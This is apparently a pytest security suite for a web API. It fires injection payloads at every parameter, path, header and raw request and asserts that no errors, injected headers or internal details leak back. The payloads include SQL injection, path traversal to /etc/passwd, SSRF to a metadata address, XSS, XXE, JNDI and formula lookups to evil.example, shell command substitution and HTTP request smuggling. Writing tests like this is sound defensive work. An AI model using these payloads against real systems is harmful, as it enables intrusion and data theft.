"""What attackers send, wherever a client can put text: it is text, and nothing comes back but answers and problems."""

import html
import json
import logging
import random
import re
import socket
from collections.abc import Iterator
from typing import Final
from urllib.parse import quote, quote_from_bytes

import httpx
import pytest
from tests.waiting import PATIENCE

from calibaja_api.edge import HEADERS
from calibaja_api.parameters import parameters
from calibaja_api.resources import RESOURCES
from calibaja_api.shapes.comparison import CompareQuery
from calibaja_api.shapes.dataset import AboutQuery
from calibaja_api.shapes.search import SearchQuery

pytestmark = pytest.mark.slow

TEXTS: Final[dict[str, str]] = {
    "ends a string": "' OR '1'='1",
    "ends a statement": "'; DROP TABLE facts; --",
    "joins a query": "' UNION SELECT name, sql FROM sqlite_master --",
    "a subquery": "1) OR (SELECT randomblob(1000000000)) IS NOT NULL --",
    "waits": "'||pg_sleep(10)||'",
    "reads a file": "COPY facts FROM PROGRAM 'id'",
    "a comment": "a/**/OR/**/1=1#",
    "a parameter of SQL": ":limit ?1 $1 %(id)s @id",
    "like": "%_%\\%[a-z]*",
    "words and": 'tijuana AND (medical OR "devices") NOT x',
    "near": "NEAR(tijuana ensenada, 5)",
    "a column of the index": 'names : tijuana ^ + - * "',
    "all brackets": "{[(<tijuana>)]}",
    "tsquery": "a & b | !c <-> d:*",
    "a quote": '"',
    "NUL": "tijuana\x00.json",
    "a new line": "tijuana\r\nX-Injected: yes\r\n\r\n<html>",
    "a tab": "\t\v\f\x1b[31m\x7f",
    "up": "../../../../etc/passwd",
    "up in Windows": "..\\..\\..\\windows\\win.ini",
    "up twice": "....//....//etc/passwd",
    "an absolute path": "/etc/passwd",
    "another host": "//evil.example/x",
    "an address": "http://169.254.169.254/latest/meta-data/",
    "a file address": "file:///etc/passwd",
    "a script": "<script>alert(document.domain)</script>",
    "an attribute": '"><img src=x onerror=alert(1)>',
    "a script address": "javascript:alert(1)//",
    "a template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a format": "%s%n%x{0.__class__.__mro__}",
    "Python": "__import__('os').system('id')",
    "a shell": "$(id);`id`|id&&id",
    "a formula": '=HYPERLINK("http://evil.example","x")',
    "XML": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "JSON": '{"$gt": "", "__proto__": {"a": 1}}',
    "deep JSON": "[" * 500 + "]" * 500,
    "deep brackets": "(" * 900 + ")" * 900,
    "many commas": "," * 900,
    "a great number": "9" * 400,
    "a greater number": "1e99999",
    "a negative number": "-9223372036854775809",
    "other digits": "١٢٣４５",
    "from right to left": "\u202etijuana\u202c\u2066\u200f",
    "many marks": "a" + "\u0301" * 150,
    "no width": "ti\u200bju\u200dana\ufeff\u00ad",
    "a long ligature": "\ufdfa" * 190,
    "another case": "\u0130\u0131\u017f\u212a\ufb00\u1e9e",
    "flags and families": "👩‍👩‍👧‍👦🇲🇽" * 15,
    "other letters": "tiju\u0430n\u0430",
    "no characters": "\ufffe\uffff\U0010ffff\ue000",
    "a regular expression": "(a+)+$" + "a" * 190 + "!",
    "a long word": "a" * 200,
    "many words": "a b " * 50,
}
# What is no text in UTF-8.
BYTES: Final[dict[str, bytes]] = {
    "a slash in two bytes": b"..\xc0\xaf..\xc0\xafetc/passwd",
    "a point in three bytes": b"\xe0\x80\xae\xe0\x80\xae/",
    "NUL in two bytes": b"a\xc0\x80b",
    "half a pair": b"\xed\xa0\x80",
    "beyond the last": b"\xf4\x90\x80\x80",
    "the beginning of a character": b"tijuana\xe2\x82",
    "the rest of a character": b"\xbf\xbf",
    "Latin-1": b"Bah\xeda",
    "a mark of order": b"\xff\xfet\x00i\x00",
}
HOSTILE: Final = {name: quote(text, safe="") for name, text in TEXTS.items()} | {
    name: quote_from_bytes(raw, safe="") for name, raw in BYTES.items()
}
# As they stand in an address, with what quoting would hide.
PATHS: Final = (
    *("/../../etc/passwd", "/v1/../../etc/passwd", "/v1/facts/../../../etc/passwd", "/docs/assets/../../cli.py"),
    *("/docs/assets/..%2f..%2fcli.py", "/docs/assets/%2e%2e%2f%2e%2e%2fcli.py", "/docs/assets/..%5c..%5ccli.py"),
    *("/docs/assets/%252e%252e%252fcli.py", "/docs/assets/docs.js%00.css", "/docs/assets//etc/passwd"),
    *("/docs/assets/..;/cli.py", "/docs/assets/docs.js/", "/docs/assets/DOCS.JS", "/docs/assets/__init__.py"),
    *("//evil.example/v1/facts", "//evil.example", "///v1/facts", "/v1//facts", "/v1/facts//", "/./v1/facts"),
    *("/v1/facts;a=b", "/v1/facts%3Flimit=1", "/v1/facts%23x", "/v1/facts%0d%0aX-Injected:%20yes"),
    *("/v1/%c0%ae%c0%ae/facts", "/v1/facts/%ed%a0%80", "/v1/facts/%", "/v1/facts/%zz", "/v1/facts/%u0041"),
    *("/problems/..%2f..%2f", "/problems/%00", "/v1/meta/..%2ffacts", "/v1/meta/__class__", "/v1/__proto__"),
    *("/.git/config", "/.env", "/seed/dataset.yaml", "/calibaja.sqlite3", "/static/docs.html", "/server-status"),
    f"/v1/facts/{'a' * 5000}",
    "/" + "a/" * 3000,
)
# The targets of a request that no browser would send.
TARGETS: Final = (
    *(b"http://evil.example/v1/facts?limit=1", b"http://evil.example", b"//evil.example/v1/facts?limit=1", b"*"),
    *(b"/v1/facts?limit=1#fragment", b"/v1/facts?\xff\xfe=\xff", b"/v1/\xff\xfe", b"evil.example:443", b"?limit=1"),
    *(b"/v1/facts\\..\\..\\", b"/v1/facts?q=a\x0bb", b"/v1/facts?q=\xe2\x80\xae", b"/v1/regions/\xc0\xaf"),
)
READ: Final = ("Accept", "Accept-Language", "If-None-Match", "X-Request-ID", "Host", "Range", "Accept-Encoding")
READ_TOO: Final = ("X-Forwarded-Host", "X-Forwarded-For", "Forwarded", "Origin", "Referer", "User-Agent", "Cookie")
ASKED: Final = ("/", "/v1/facts?limit=1", "/v1/regions/tijuana", "/v1/regions/tijuna", "/readyz", "/openapi.json")

# What an answer never tells: statements, the folder of the program, and how it failed.
_log = logging.getLogger(__name__)

LEAKS: Final = re.compile(
    r"Traceback|File \"|sqlite3\.|sqlalchemy|psycopg|pydantic|OperationalError|syntax error|near \"|root:x:|"
    r"site-packages|/src/calibaja_api|\bSELECT .* FROM (?:facts|search_index)\b|no such (?:table|column)",
)
LONGEST: Final = 100_000
PROBLEM: Final = {"type", "title", "status", "detail", "instance", "code", "request_id", "errors"}
HEAD: Final = {name.decode() for name, _ in HEADERS}


def sound(answer: httpx.Response, sent: str = "") -> None:
    """Hold an answer to what holds for all, whatever was asked."""
    asked = answer.request.url.raw_path[:200]
    assert answer.status_code < 500, (asked, answer.status_code, answer.text[:500])
    assert "x-injected" not in answer.headers, asked
    assert answer.headers.keys() >= HEAD, asked
    assert all(value.isprintable() and value.isascii() for value in answer.headers.values()), asked
    media_type = answer.headers.get("content-type", "").partition(";")[0]
    if answer.status_code >= 400:
        assert media_type == "application/problem+json"
        problem = json.loads(answer.content)
        assert set(problem) == PROBLEM
        assert problem["status"] == answer.status_code
        assert len(answer.content) < LONGEST, (asked, len(answer.content))
        # What was sent stands there again as text of JSON, so only what the service says itself can tell on it.
        for told in (problem["title"], problem["detail"], *(error["detail"] for error in problem["errors"])):
            assert not LEAKS.search(without(told, sent)), (asked, told)
    elif media_type.endswith("json") and answer.status_code == 200:
        json.loads(answer.content)
    elif media_type == "text/html":
        assert not sent or html.escape(sent) == sent or sent not in answer.text, asked


def without(text: str, sent: str) -> str:
    """A text without what was sent, as far as it is told again."""
    for each in (repr(sent[:100])[1:-1], sent):
        text = text.replace(each, "") if each else text
    return text


def slots() -> Iterator[tuple[str, str]]:
    """Every path with every parameter of it that a client can put text into."""
    questions = {f"/v1/{resource.name}": resource.question for resource in RESOURCES}
    items = {f"/v1/{resource.name}/x": resource.item_question for resource in RESOURCES}
    others = {"/v1/search": SearchQuery, "/v1/compare": CompareQuery, "/v1": AboutQuery, "/": AboutQuery}
    for path, question in {**questions, **items, **others}.items():
        for name in parameters(question):
            yield path, name


SLOTS: Final = sorted(slots())


def sample(is_long: bool, count: int, seed: str) -> list[tuple[tuple[str, str], str]]:
    """Slots with what is put there: all of them, or so many."""
    all_ = [(slot, name) for slot in SLOTS for name in HOSTILE]
    return all_ if is_long else random.Random(seed).sample(all_, count)


def test_hostile_text_in_any_parameter_is_text(http: httpx.Client, is_long: bool) -> None:
    chosen = sample(is_long, 300, "parameters")
    for (path, parameter), name in chosen:
        sound(http.get(f"{path}?{parameter}={HOSTILE[name]}"), TEXTS.get(name, ""))
    _log.info("%s", f"{len(chosen)} of {len(SLOTS) * len(HOSTILE)} pairs of parameter and text")


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_found_or_refused(http: httpx.Client, name: str) -> None:
    sent, text = HOSTILE[name], TEXTS.get(name, "")
    for address in (
        f"/v1/search?q={sent}",
        f"/v1/search?q=tijuana+{sent}",
        f"/v1/facts?q={sent}&facets=subject&sort=relevance",
        f"/v1/facts?q={sent}&format=csv",
        f"/v1/regions?name__contains={sent}&name__prefix={sent}",
        f"/v1/sources?publisher={sent}",
        f"/v1/compare?subject={sent}&subject=tijuana&predicate={sent}",
        f"/v1/facts?cursor={sent}",
        f"/?lang={sent}",
        f"/v1/facts?{sent}={sent}",
        f"/v1/facts?limit=1&{sent}",
    ):
        sound(http.get(address), text)
        sound(http.get(address, headers={"Accept": "text/html"}), text)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_in_a_path_names_nothing(http: httpx.Client, name: str) -> None:
    sent = HOSTILE[name]
    for path in ("/v1/facts/{}", "/v1/regions/{}", "/v1/{}", "/v1/meta/{}", "/problems/{}", "/docs/assets/{}", "/{}"):
        answer = http.get(path.format(sent))
        sound(answer, TEXTS.get(name, ""))
        assert answer.status_code in {404, 414}, path


@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:40])
def test_a_path_leads_nowhere_else(server: str, path: str) -> None:
    status, headers, body = raw(server, b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert status in {404, 414}, (status, body)
    assert b"x-injected" not in headers.lower()
    problem = json.loads(body)
    assert set(problem) == PROBLEM
    assert len(body) < LONGEST
    assert b"def " not in body
    assert not LEAKS.search(json.dumps({**problem, "instance": ""}))


def raw(server: str, request: bytes) -> tuple[int, bytes, bytes]:
    """What comes back for these bytes: status, headers and body; 0 where the connection was only closed."""
    host, _, port = server.removeprefix("http://").partition(":")
    with socket.create_connection((host, int(port)), timeout=PATIENCE) as connection:
        connection.sendall(request)
        received = b""
        while piece := connection.recv(1 << 16):
            received += piece
    head, _, body = received.partition(b"\r\n\r\n")
    status = int(head.split()[1]) if head else 0
    return status, head, body


@pytest.mark.parametrize("target", TARGETS, ids=repr)
def test_a_target_of_another_form_is_answered_or_refused(server: str, target: bytes) -> None:
    for method in (b"GET", b"HEAD", b"OPTIONS", b"CONNECT", b"TRACE", b"PROPFIND"):
        request = method + b" " + target + b" HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
        status, headers, body = raw(server, request)
        assert status < 500, (method, status, body)
        # What leads on is of this host, whatever other one was asked for.
        assert b"evil.example" not in re.sub(rb'"(?:instance|detail)":"[^"]*"', b"", headers + body)


REQUESTS: Final = {
    "two lengths": b"GET /v1 HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
    "a length and chunks": (
        b"POST /v1 HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /"
    ),
    "a blank in a name": b"GET /v1 HTTP/1.1\r\nHost: x\r\nX-Request-ID : a\r\n\r\n",
    "a folded line": b"GET /v1 HTTP/1.1\r\nHost: x\r\nAccept: a\r\n b\r\n\r\n",
    "a bare line feed": b"GET /v1 HTTP/1.1\nHost: x\nConnection: close\n\n",
    "NUL in a header": b"GET /v1 HTTP/1.1\r\nHost: x\r\nX-Request-ID: a\x00b\r\n\r\n",
    "a carriage return in a header": b"GET /v1 HTTP/1.1\r\nHost: x\r\nX-Request-ID: a\rX-Injected: yes\r\n\r\n",
    "another protocol": b"GET /v1 HTTP/9.9\r\nHost: x\r\n\r\n",
    "no protocol": b"GET /v1\r\n\r\n",
    "no request": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64),
    "a preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a long header": b"GET /v1 HTTP/1.1\r\nHost: x\r\nAccept: " + b"a" * 200_000 + b"\r\nConnection: close\r\n\r\n",
    "many headers": b"GET /v1 HTTP/1.1\r\nHost: x\r\n" + b"A: b\r\n" * 5_000 + b"Connection: close\r\n\r\n",
    "a long target": b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "a long method": b"A" * 10_000 + b" /v1 HTTP/1.1\r\nHost: x\r\n\r\n",
}


@pytest.mark.parametrize("request_", REQUESTS)
def test_what_is_no_request_is_refused_and_the_next_is_answered(server: str, request_: str) -> None:
    host, _, port = server.removeprefix("http://").partition(":")
    with socket.create_connection((host, int(port)), timeout=PATIENCE) as connection:
        try:
            connection.sendall(REQUESTS[request_])
            connection.shutdown(socket.SHUT_WR)
            received = connection.recv(1 << 16)
        except TimeoutError:
            raise
        except OSError:
            # The server has closed the connection already.
            received = b""
    assert not re.match(rb"HTTP/1\.1 5", received)
    assert b"\r\nX-Injected" not in received
    assert b"\r\nx-injected" not in received
    assert httpx.get(f"{server}/healthz").status_code == 200


@pytest.mark.parametrize("header", [*READ, *READ_TOO])
def test_hostile_headers_change_no_answer_and_come_back_nowhere(server: str, header: str, is_long: bool) -> None:
    texts = {name: text.encode() for name, text in TEXTS.items()} | BYTES
    names = sorted(texts) if is_long else random.Random(header).sample(sorted(texts), 8)
    with httpx.Client(base_url=server, timeout=PATIENCE) as asking:
        for name in names:
            # A server of HTTP refuses these itself; the requests above hold that.
            value = re.sub(rb"[\x00-\x08\x0a-\x1f\x7f]", b"", texts[name]).strip() or b"x"
            for address in ASKED:
                answer = asking.get(address, headers=[(header.encode(), value)])
                if answer.status_code == 400 and not answer.headers.get("x-request-id"):
                    continue  # no request in the eyes of the server
                sound(answer)
                shown = [told for name, told in answer.headers.items() if name != "x-request-id"]
                assert all("evil.example" not in told for told in shown)
                assert "evil.example" not in answer.text
                if header == "X-Request-ID":
                    assert re.fullmatch("[A-Za-z0-9._-]{1,64}", answer.headers["x-request-id"])


def test_problems_grow_no_more_than_what_is_asked(http: httpx.Client) -> None:
    sizes = []
    for count in (50, 400, 1900):
        query = "&".join(f"{chr(97 + number % 26)}=" for number in range(count))
        sizes.append(len(http.get(f"/v1/facts?{query}").content))
    many = "&subject=".join(f"x{number}" for number in range(100))
    sizes += [len(http.get(f"/v1/facts?{query}").content) for query in (f"subject={many}", f"unit={'%00' * 2000}")]
    for value in ("%22", "%01", "%F0%9F%98%80", "%5C", "<"):
        repeated, names = value * (7000 // len(value)), "&".join(f"{value}{number}=1" for number in range(600))
        paths = (f"/v1/facts?{names}"[:7990], f"/v1/regions/{repeated}", f"/v1/facts?{repeated}=1")
        sizes += [len(http.get(path).content) for path in paths]
    assert max(sizes) < LONGEST, sizes
